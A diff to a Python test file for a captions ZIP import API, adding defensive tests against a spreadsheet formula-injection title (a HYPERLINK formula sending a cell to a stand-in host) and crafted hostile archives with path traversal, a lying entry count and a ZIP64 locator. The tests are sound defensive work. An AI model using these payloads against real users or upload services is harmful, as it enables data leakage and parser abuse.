@@ -10,6 +10,7 @@ import csv
 import io
 import os
 import stat
+import struct
 import warnings
 import zipfile
 from typing import Any
@@ -207,6 +208,33 @@ def test_export_then_import_changes_nothing(
     assert everything(world, course_media) == before
 
 
+def test_manifest_cells_cannot_become_formulas_and_still_import(
+    world: World, course_media: dict[str, str]
+) -> None:
+    title = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    retitle(world, course_media["seminar"], title)
+    put_tracks(world, course_media["seminar"], [{"locale": "en", "content": SEMINAR}])
+    files = unzip(export(world).content)
+    rows = manifest_rows(files)
+    row = next(r for r in rows if r["media_id"] == course_media["seminar"])
+    assert row["title"] == "'" + title
+    assert row["file"].startswith("'=") and row["file"][1:] in files
+    cells = [cell for r in rows for cell in r.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    # The apostrophe is taken off again: the export imports back unchanged, and a file known
+    # only by its manifest row (its name matches no title) still finds its media.
+    body = post_zip(world, export(world).content).json()
+    assert body["changed"] == [] and body["refused"] == [], body
+    manifest = f"file,media_id,locale\r\n'-renamed.de.srt,{course_media['seminar']},de\r\n"
+    data = make_zip([("manifest.csv", manifest.encode()), ("-renamed.de.srt", SEMINAR.encode())])
+    body = post_zip(world, data).json()
+    assert body["refused"] == [], body
+    assert [(c["file"], c["media_id"]) for c in body["changed"]] == [
+        ("-renamed.de.srt", course_media["seminar"])
+    ]
+    assert "de" in tracks_of(world, course_media["seminar"])
+
+
 def test_legacy_tracks_today_s_rules_refuse_come_back_unchanged(
     world: World, course_media: dict[str, str], ctx: AppContext
 ) -> None:
@@ -382,6 +410,21 @@ def _too_much_in_all() -> bytes:
     )
 
 
+def _entry_count_lies() -> bytes:
+    # 21 entries, the end record claiming 1: zipfile would parse the whole directory first.
+    data = bytearray(make_zip([(f"Seminar.x{n}.srt", b"x") for n in range(21)]))
+    end = data.rindex(b"PK\x05\x06")
+    data[end + 8 : end + 12] = struct.pack("<2H", 1, 1)
+    return bytes(data)
+
+
+def _zip64_locator() -> bytes:
+    # A ZIP64 locator before the end record: zipfile would take its counts and sizes instead.
+    data = make_zip([("Seminar.de.srt", SEMINAR.encode())])
+    end = data.rindex(b"PK\x05\x06")
+    return data[:end] + b"PK\x06\x07" + bytes(16) + data[end:]
+
+
 HOSTILE: dict[str, tuple[Any, int, str]] = {
     "dot-dot": (lambda: make_zip([("../Seminar.fr.srt", SEMINAR.encode())]), 422, "'..'"),
     "dot-dot-inside": (lambda: make_zip([("a/../../Seminar.fr.srt", b"x")]), 422, "'..'"),
@@ -403,6 +446,8 @@ HOSTILE: dict[str, tuple[Any, int, str]] = {
         422,
         "at most 20",
     ),
+    "entry-count-lies": (_entry_count_lies, 422, "more than 20 entries"),
+    "zip64-locator": (_zip64_locator, 422, "ZIP64"),
     "not-a-zip": (lambda: b"this is not a zip at all" * 10, 422, "not a ZIP"),
     "truncated": (lambda: make_zip([("Seminar.fr.srt", SEMINAR.encode())])[:-30], 422, "ZIP"),
     "corrupt-data": (_corrupt_data, 422, "damaged"),
@@ -429,6 +474,28 @@ def test_a_request_without_the_file_part_is_400(world: World, course_media: dict
     url = f"/api/v1/courses/{world.course}/captions.zip"
     response = world.api.request("POST", url, world.teacher, data={"other": "x"})
     assert response.status_code == 400
+
+
+@pytest.mark.parametrize("length", [257, 5000])
+def test_a_multipart_boundary_longer_than_the_parser_takes_is_400(
+    world: World, course_media: dict[str, str], length: int
+) -> None:
+    # RFC 2046 allows 70 characters; python-multipart refuses more than 256 (it was a 500).
+    boundary = "b" * length
+    body = (
+        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="c.zip"\r\n\r\n'
+    ).encode() + make_zip([("Seminar.de.srt", SEMINAR.encode())])
+    body += f"\r\n--{boundary}--\r\n".encode()
+    response = world.api.request(
+        "POST",
+        f"/api/v1/courses/{world.course}/captions.zip",
+        world.teacher,
+        content=body,
+        headers={"content-type": f"multipart/form-data; boundary={boundary}"},
+    )
+    assert response.status_code == 400, response.text
+    assert "boundary" in response.json()["errors"][0]["message"]
+    assert "de" not in tracks_of(world, course_media["seminar"])
 
 
 def test_a_dry_run_that_is_not_a_boolean_is_400(world: World, course_media: dict[str, str]) -> None:
